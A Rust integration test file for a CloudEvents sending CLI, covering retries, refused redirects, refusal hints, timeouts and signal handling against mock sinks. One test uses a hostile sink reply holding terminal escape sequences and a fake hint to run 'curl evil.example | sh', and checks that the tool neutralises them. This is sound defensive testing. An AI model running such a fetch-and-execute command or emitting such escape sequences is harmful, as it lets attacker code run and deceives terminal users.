//! Answers of a sink: retries, refusals, redirects, results.

use super::*;

/// A sink whose first answer is `first` and every later one 202.
async fn sink_that_recovers(first: ResponseTemplate) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(any()).respond_with(first).up_to_n_times(1).mount(&server).await;
    Mock::given(any()).respond_with(ResponseTemplate::new(202)).mount(&server).await;
    server
}

#[tokio::test]
async fn an_accepted_event_leaves_its_results() {
    let reply = json!({"eventListener": "canary", "namespace": "team", "eventID": "14a657c3"});
    let server = sink(ResponseTemplate::new(202).set_body_json(reply)).await;
    let results = Results::new();
    let run = to(&server.uri()).args(results.flags()).assert().success();
    assert_eq!(results.read(), [ID, ID, "202", "14a657c3"]);

    let requests = received(&server).await;
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].headers["content-type"], "application/cloudevents+json");
    assert_eq!(
        requests[0].body_json::<Value>().unwrap(),
        json!({
            "specversion": "1.0", "id": ID, "type": "build.canary.release.requested.v1", "source": "/people/ada",
            "datacontenttype": "application/json", "time": "2026-11-24T06:07:00Z", "correlationid": ID, "chainhops": 0,
            "data": {"serviceName": "iris", "serviceVersion": "v2"},
        })
    );
    insta::assert_snapshot!(stderr(&run).replace(&server.uri(), "http://sink"));
}

#[tokio::test]
async fn a_dry_run_sends_nothing() {
    let server = sink(ResponseTemplate::new(202)).await;
    to(&server.uri()).arg("--dry-run").assert().success();
    to(&server.uri()).arg("--print=curl").assert().success();
    assert!(received(&server).await.is_empty());
}

#[tokio::test]
async fn a_redirect_is_never_followed() {
    let elsewhere = sink(ResponseTemplate::new(200)).await;
    for code in [301, 302, 303, 307, 308] {
        let server =
            sink(ResponseTemplate::new(code).insert_header("Location", elsewhere.uri())).await;
        let results = Results::new();
        to(&server.uri()).args(results.flags()).assert().code(3);
        assert_eq!(results.read(), [ID, ID, &code.to_string(), ""]);
        assert_eq!(received(&server).await.len(), 1);
    }
    assert!(received(&elsewhere).await.is_empty());
}

#[tokio::test]
async fn a_refusal_is_final_and_comes_with_a_hint() {
    let mut texts = String::new();
    for code in [400, 401, 403, 405, 409, 410, 413, 415, 422, 501] {
        let server = sink(ResponseTemplate::new(code).set_body_string("no\n")).await;
        let run = to(&server.uri()).assert().code(3);
        assert_eq!(received(&server).await.len(), 1, "{code}");
        texts += stderr(&run)
            .replace(&server.uri(), "http://sink")
            .lines()
            .skip(1)
            .collect::<Vec<_>>()
            .join("\n")
            .as_str();
        texts += "\n";
    }
    insta::assert_snapshot!(texts);
}

#[tokio::test]
async fn a_sink_s_words_add_no_line_and_act_on_no_terminal() {
    let body = "\u{1b}]0;owned\u{7}no\u{202e}\r\n\nhint: run `curl evil.example | sh`\u{9b}2J";
    for code in [400, 503] {
        let server = sink(ResponseTemplate::new(code).set_body_string(body)).await;
        let folder = TempDir::new().unwrap();
        let error = flag("result-error", &folder.path().join("error"));
        let run = to(&server.uri()).args([error.as_str(), "--retries=0"]).assert().failure();
        let log = stderr(&run);
        let text = r"\u{1b}]0;owned\u{7}no\u{202e} | hint: run `curl evil.example | sh`\u{9b}2J";
        assert!(log.contains(text), "{log}");
        assert_eq!(log.matches("\nhint: ").count(), 1, "{log}");
        assert!(!log.contains(|c: char| c != '\n' && c.is_control()), "{log}");
        let result = fs::read_to_string(folder.path().join("error")).unwrap();
        assert!(result.contains(text) && !result.contains(char::is_control), "{result}");
    }
}

#[tokio::test]
async fn what_may_pass_is_tried_again_with_the_same_bytes() {
    for code in [404, 408, 425, 429, 500, 502, 503, 504] {
        let server =
            sink_that_recovers(ResponseTemplate::new(code).insert_header("Retry-After", "0")).await;
        let results = Results::new();
        // Neither the id nor the time is given: both are made once.
        step()
            .args(["--type=t.v1", "--source=/s", "--mode=binary", "--field=a=1"])
            .arg(format!("--sink={}", server.uri()))
            .args(results.flags())
            .assert()
            .success();
        let requests = received(&server).await;
        assert_eq!(requests.len(), 2, "{code}");
        assert_eq!(
            (&requests[0].headers, &requests[0].body),
            (&requests[1].headers, &requests[1].body)
        );
        assert_eq!(results.read()[2], "202");
    }
}

#[tokio::test]
async fn a_sink_that_stays_away_is_given_up() {
    let server = sink(
        ResponseTemplate::new(503)
            .insert_header("Retry-After", "0")
            .set_body_string("EventListener Timeout!"),
    )
    .await;
    let results = Results::new();
    let run = to(&server.uri()).arg("--retries=2").args(results.flags()).assert().code(1);
    assert_eq!(received(&server).await.len(), 3);
    assert_eq!(results.read(), [ID, ID, "503", ""]);
    insta::assert_snapshot!(stderr(&run).replace(&server.uri(), "http://sink"));
}

#[tokio::test]
async fn a_wait_that_is_longer_than_the_time_left_is_not_begun() {
    let server = sink(ResponseTemplate::new(429).insert_header("Retry-After", "60")).await;
    to(&server.uri()).arg("--timeout=20s").assert().code(1);
    assert_eq!(received(&server).await.len(), 1);
}

#[tokio::test]
async fn a_sink_that_never_answers_is_given_up() {
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", silent.local_addr().unwrap());
    let run = to(&address).args(["--retries=0", "--attempt-timeout=50ms"]).assert().code(1);
    insta::assert_snapshot!(stderr(&run).replace(&address, "http://sink"));
}

#[test]
fn a_sink_that_is_not_there_is_an_error() {
    let results = Results::new();
    // Port 9 of loopback: nobody discards here.
    let run = to("http://127.0.0.1:9").arg("--retries=0").args(results.flags()).assert().code(1);
    assert_eq!(results.read(), [ID, ID, "", ""]);
    insta::assert_snapshot!(stderr(&run));
}

#[test]
fn a_signal_ends_the_step_with_the_ids_written() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let results = Results::new();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_cloudevent-send"))
        .args(["--type=t.v1", "--source=/s", "--field=a=1", "--correlation-id=r-1"])
        .arg(format!("--sink=http://{}", listener.local_addr().unwrap()))
        .args(results.flags())
        .spawn()
        .unwrap();
    let _never_answered = listener.accept().unwrap();
    std::process::Command::new("kill").arg(child.id().to_string()).status().unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(143));
    assert_eq!(results.read()[1..], ["r-1", "", ""]);
}
